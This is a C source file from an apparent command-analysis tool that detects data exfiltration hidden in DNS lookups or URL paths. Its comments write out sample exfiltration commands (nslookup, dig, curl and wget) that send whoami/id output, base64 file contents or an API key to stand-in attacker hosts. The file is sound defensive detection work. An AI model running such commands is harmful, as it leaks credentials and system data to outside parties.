/* netexfil.c -- data sent by naming it: the output of a command substitution
 * or a credential variable written into a host name a network program looks up
 * (`nslookup $(whoami).attacker.com`, `dig $(cat f | base64).x.com`: the name
 * travels to the attacker's DNS server) or into the path or query of a URL it
 * requests (`curl https://x.com/$(id)`, `wget "x.com/?k=$API_KEY"`).
 *
 * The word's parts are read from the parser's segments: literal text stays, a
 * substitution (or a credential variable, or a variable holding a file's
 * contents) is a data part.  A data part inside the host with a literal domain
 * after it is `dns-exfil`; a data part after the host of a URL whose host is not
 * local is `url-exfil`; either is `exfiltrate` (critical) when the data is a
 * credential or a file of secrets.  A whole host known only at run time
 * (`curl http://$(minikube ip):8080/`) sends nothing by its name.
 * Part of the intent walker: see walk.h and intent.h. */
#include "broker/intent/walk.h"
#include "broker/intent/secrets.h"

#include <ctype.h>
#include <string.h>

#define DATA '\x01'
#define OTHER '\x02'

/* The word's skeleton: literal text, DATA for a data part, OTHER for any other
 * expansion; false when there is no data part. */
static bool
skeleton(struct intent_ctx *x, const struct rword *r, char *out, size_t cap, size_t *outn)
{
	const struct sh_word *w = r->w;
	size_t o = 0;
	bool data = false;

	if (w == NULL)
		return false;
	for (size_t k = 0; k < w->nsegs && o + 1 < cap; k++) {
		const struct sh_seg *sg = &w->segs[k];
		char c = OTHER;

		switch (sg->kind) {
		case SH_SEG_LIT: {
			size_t n = sg->n < cap - 1 - o ? sg->n : cap - 1 - o;

			memcpy(out + o, sg->s, n);
			o += n;
			continue;
		}
		case SH_SEG_SUBST:
			c = DATA;
			break;
		case SH_SEG_VAR:
			/* a credential, a file's contents, or a variable the script
			 * set from a command's output (D=$(id); nslookup $D.x.com) */
			if (secrets_var_name(x->t, sg->s, sg->n) || (r->f & (RW_FILEREAD | RW_SECRETREAD)) ||
			    (wk_var_flags(x, sg->s, sg->n) & RW_SUBST))
				c = DATA;
			break;
		default:
			break;
		}
		if (c == DATA)
			data = true;
		out[o++] = c;
	}
	*outn = o;
	return data;
}

/* After the last data part of host[0..n): ".label.tld" (a literal domain). */
static bool
domain_after_data(const char *h, size_t n)
{
	const char *d = memrchr(h, DATA, n), *e = h + n;
	bool alpha = false;
	size_t dots = 0;

	if (d == NULL || d + 1 >= e || d[1] != '.')
		return false;
	for (const char *q = d + 1; q < e; q++) {
		if (*q == '.')
			dots++;
		else if (isalpha((unsigned char)*q))
			alpha = true;
		else if (!(isdigit((unsigned char)*q) || *q == '-' || *q == '_'))
			return false;
	}
	return dots >= 1 && alpha && e[-1] != '.';
}

static bool
literal(const char *s, size_t n)
{
	return memchr(s, DATA, n) == NULL && memchr(s, OTHER, n) == NULL;
}

/* One word: 1 dns-exfil, 2 url-exfil, 0 nothing. */
static int
word_exfil(struct intent_ctx *x, const struct rword *r, bool host_word)
{
	char sk[1024];
	size_t n, hs = 0, he;
	const char *ss;

	if (!(r->f & (RW_SUBST | RW_SECRETVAR | RW_VAR | RW_UNKNOWN)) || !skeleton(x, r, sk, sizeof sk, &n))
		return 0;
	ss = memmem(sk, n, "://", 3);
	if (ss != NULL) {
		if (!literal(sk, (size_t)(ss - sk)))
			return 0; /* the scheme itself is computed */
		hs = (size_t)(ss + 3 - sk);
	} else if (!host_word) {
		return 0;
	}
	for (he = hs; he < n && sk[he] != '/' && sk[he] != '?' && sk[he] != '#'; he++)
		;
	{
		const char *at = memrchr(sk + hs, '@', he - hs);
		const char *colon;
		size_t hl;

		if (at != NULL)
			hs = (size_t)(at + 1 - sk);
		colon = memchr(sk + hs, ':', he - hs);
		hl = colon != NULL ? (size_t)(colon - sk) - hs : he - hs;
		if (memchr(sk + hs, DATA, hl) != NULL)
			return domain_after_data(sk + hs, hl) ? 1 : 0;
		if (he < n && memchr(sk + he, DATA, n - he) != NULL && hl > 0 && literal(sk + hs, hl)) {
			enum hclass hc = tables_host_class(x->t, sk + hs, hl);

			return hc == HC_LOCAL || hc == HC_PRIVATE ? 0 : 2;
		}
	}
	return 0;
}

void
wk_net_exfil(struct an *an)
{
	struct intent_ctx *x = an->w->x;
	const struct args *a = an->a;
	uint64_t cls = an->pg != NULL ? an->pg->classes : 0;
	const struct sh_word *last = NULL;
	int worst = 0;
	bool secret = false;

	if (!(cls & (PCL(NET) | PCL(DOWNLOAD) | PCL(RAWNET) | PCL(REMOTE))))
		return;
	for (size_t k = 0; k < a->nall; k++) {
		const struct rword *r = &a->all[k];
		bool host_word = false;
		int v;

		if (r->w == NULL || r->w == last || (r->n > 0 && r->s[0] == '-'))
			continue;
		last = r->w;
		for (size_t j = 0; j < a->npos && !host_word; j++)
			host_word = a->pos[j]->w == r->w;
		if ((v = word_exfil(x, r, host_word)) == 0)
			continue;
		if (v == 1 || worst == 0)
			worst = v;
		if (r->f & (RW_SECRETVAR | RW_SECRETREAD))
			secret = true;
	}
	for (size_t k = 0; k < a->ninl && worst == 0; k++) {
		const struct rword *r = &a->inl[k];
		int v = r->w != NULL && memmem(r->s, r->n, "://", 3) != NULL ? word_exfil(x, r, false) : 0;

		if (v != 0) {
			worst = v;
			if (r->f & (RW_SECRETVAR | RW_SECRETREAD))
				secret = true;
		}
	}
	if (worst == 0)
		return;
	wk_sig(x, an->ci, worst == 1 ? "dns-exfil" : "url-exfil");
	intent_add_effect(x, an->ci, EFF_UPLOAD);
	if (secret) {
		wk_sig(x, an->ci, "exfiltrate");
		intent_add_effect(x, an->ci, EFF_EXFILTRATE);
	}
}
